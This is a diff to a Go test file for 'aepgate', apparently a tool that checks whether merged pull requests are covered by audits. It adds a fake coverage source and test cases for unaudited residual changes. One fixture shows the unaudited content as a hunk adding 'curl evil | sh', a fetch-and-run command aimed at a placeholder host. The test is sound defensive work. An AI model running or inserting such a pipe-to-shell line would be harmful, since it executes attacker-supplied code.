@@ -13,8 +13,10 @@ import (
 	"github.com/aepgate/aepgate/app/writer"
 	"github.com/aepgate/aepgate/checks"
 	"github.com/aepgate/aepgate/internal/gh"
+	"github.com/aepgate/aepgate/internal/replay"
 	"github.com/aepgate/aepgate/internal/store"
 	"github.com/aepgate/aepgate/protocol/config"
+	"github.com/aepgate/aepgate/protocol/coverage"
 	"github.com/aepgate/aepgate/protocol/readbackrules"
 	"github.com/aepgate/aepgate/protocol/snapshot"
 )
@@ -29,6 +31,8 @@ type fakeGitHub struct {
 	labels   []int
 	boards   int
 	unlocked int
+	// summaries are the written runs' summaries, by name.
+	summaries map[string]string
 }
 
 func (f *fakeGitHub) MergedPull(context.Context, string, string, int) (*gh.MergedPull, error) {
@@ -49,6 +53,10 @@ func (f *fakeGitHub) Lock(context.Context, string) (func(), error) {
 }
 func (f *fakeGitHub) Publish(_ context.Context, _, _ string, r checks.Run) (int64, error) {
 	f.written = append(f.written, r.Name+" "+string(r.EffectiveStatus())+" "+string(r.Conclusion))
+	if f.summaries == nil {
+		f.summaries = map[string]string{}
+	}
+	f.summaries[r.Name] = r.Summary
 	return 1, nil
 }
 func (f *fakeGitHub) PublishNew(ctx context.Context, o, r string, run checks.Run) (int64, error) {
@@ -61,6 +69,19 @@ func (f *fakeGitHub) Record(_ context.Context, e store.Entry) error {
 func (f *fakeGitHub) Has(context.Context, string) (bool, error) { return false, nil }
 
 func sha(c string) string { return strings.Repeat(c, 40) }
+
+// fixedCoverage answers every observation with its result.
+type fixedCoverage coverage.Result
+
+func (c fixedCoverage) Coverage(_ context.Context, _, _ string, in replay.Input) (coverage.Observation, coverage.Result, error) {
+	return coverage.Observation{AuditedHead: in.AuditedHead, Shipped: in.Shipped, Onto: sha("a")}, coverage.Result(c), nil
+}
+
+// Pull request numbers whose coverage TestJudgeWrites observes otherwise.
+const (
+	residualPR = 30
+	noSourcePR = 31
+)
 
 // TestJudgeWrites: one merged pull request judged by the Judge alone,
 // from the readback's own decision to the certificate and the label.
@@ -92,6 +113,10 @@ func TestJudgeWrites(t *testing.T) {
 			m.MergeRuns = []snapshot.ExistingRun{existing(checks.NameReadback), existing(checks.NameCertificate)}
 		}, []readbackrules.Run{ci(2, sha("c"), "main", "push")}, nil, nil, nil, 0},
 		{"merged elsewhere: nothing", func(m *gh.MergedPull) { m.BaseRef = "release" }, nil, nil, nil, nil, 0},
+		{"a residual fails at once", func(m *gh.MergedPull) { m.Number = residualPR }, nil,
+			[]string{"aepgate/readback completed failure"}, []string{"check_run:aepgate/readback"}, nil, 1},
+		{"no coverage source fails at once", func(m *gh.MergedPull) { m.Number = noSourcePR }, []readbackrules.Run{ci(2, sha("c"), "main", "push")},
+			[]string{"aepgate/readback completed failure"}, []string{"check_run:aepgate/readback"}, nil, 1},
 	}
 	for _, tt := range tests {
 		t.Run(tt.name, func(t *testing.T) {
@@ -103,6 +128,13 @@ func TestJudgeWrites(t *testing.T) {
 				tt.edit(m)
 			}
 			f := &fakeGitHub{pull: m, main: tt.main}
+			var source CoverageSource = fixedCoverage{Class: coverage.Replay}
+			switch m.Number {
+			case residualPR:
+				source = fixedCoverage{Class: coverage.Residual, Residual: []coverage.PathDiff{{Path: "extra.sh", Status: "A", Hunks: "@@ -0,0 +1 @@\n+curl evil | sh\n"}}, Reason: "content no audit covers"}
+			case noSourcePR:
+				source = nil
+			}
 			cfg := config.Default()
 			cfg.RequiredWorkflows.Readback = []string{"ci"}
 			j := &Judge{GitHub: GitHub{Read: f, Find: nil, Label: f}, W: writer.Writer{Pub: f, Ledger: f}, Locks: f, Log: slog.New(slog.NewTextHandler(io.Discard, nil)),
@@ -112,7 +144,7 @@ func TestJudgeWrites(t *testing.T) {
 						return Audit{SHA: m.HeadSHA, Auditor: "carol", ReviewID: 7, Verdict: "PASS"}, nil
 					},
 					Config: func(snapshot.ConfigFile) (*config.Config, error) { return cfg, nil }},
-				Cache: &Ancestry{},
+				Cache: &Ancestry{}, Coverage: source,
 				After: After{Boards: func(context.Context, string, string) error { f.boards++; return nil }}}
 			if err := j.Run(context.Background(), Input{Event: "pull_request", Owner: "acme", Repo: "widgets"}, Target{PR: 3}); err != nil {
 				t.Fatal(err)
